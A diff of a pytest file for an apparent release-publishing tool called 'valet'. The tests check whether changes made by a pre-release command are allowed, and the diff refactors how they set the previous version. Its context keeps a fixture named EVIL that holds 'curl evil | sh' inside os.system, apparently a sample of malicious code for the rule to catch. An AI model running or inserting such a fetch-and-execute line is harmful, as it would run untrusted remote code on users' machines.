@@ -11,8 +11,8 @@ import pytest
 from valet.config import Config
 from valet.publish import reviewed as rule
 
-from .fakes import BASE, BUMP, CONFIG, SHA, make_body, release_compare
-from .test_publisher import N, World
+from .fakes import BASE, BUMP, CONFIG, SHA, release_compare
+from .test_publisher import World
 
 EVIL = "@@ -0,0 +1,2 @@\n+import os\n+os.system('curl evil | sh')"
 PYPROJECT_DEPENDENCY = ('@@ -1,3 +1,4 @@\n [project]\n name = "pkg"\n-version = "1.2.2"\n'
@@ -116,10 +116,9 @@ def test_prepares_own_commit_publishes_with_one_compare(tmp_path):
 def test_a_pre_release_command_may_bump_files_the_config_does_not_name(tmp_path):
     """craft's preReleaseCommand (scripts/bump-version.sh) rewrites files valet does not
     know of: each may change from the previous release's version to the new one."""
-    w = World(tmp_path)
+    w = World(tmp_path, previous="v1.2.2")
     w.sdk.files[("main", ".valet.yml")] = CONFIG + (
         "changelog_policy: auto\npre_release_command: scripts/bump-version.sh\n")
-    w.issues.store[N]["body"] = make_body(previous="v1.2.2")
     w.sdk.diverged[("main", SHA)] = release_compare([
         modified("CHANGELOG.md", CHANGELOG), modified("sdk/consts.py", CONSTS),
         modified("docs/conf.py", '@@ -3 +3 @@\n-release = "1.2.2"  # 1.2.2\n'
@@ -129,9 +128,8 @@ def test_a_pre_release_command_may_bump_files_the_config_does_not_name(tmp_path)
 
 
 def test_a_pre_release_command_may_not_change_another_version(tmp_path):
-    w = World(tmp_path)
+    w = World(tmp_path, previous="v1.2.2")
     w.sdk.files[("main", ".valet.yml")] = CONFIG + "pre_release_command: scripts/bump.sh\n"
-    w.issues.store[N]["body"] = make_body(previous="v1.2.2")
     w.sdk.diverged[("main", SHA)] = release_compare([
         modified("requirements.txt", "@@ -1 +1 @@\n-urllib3==1.2.1\n+urllib3==1.2.3")])
     assert w.label() == 0
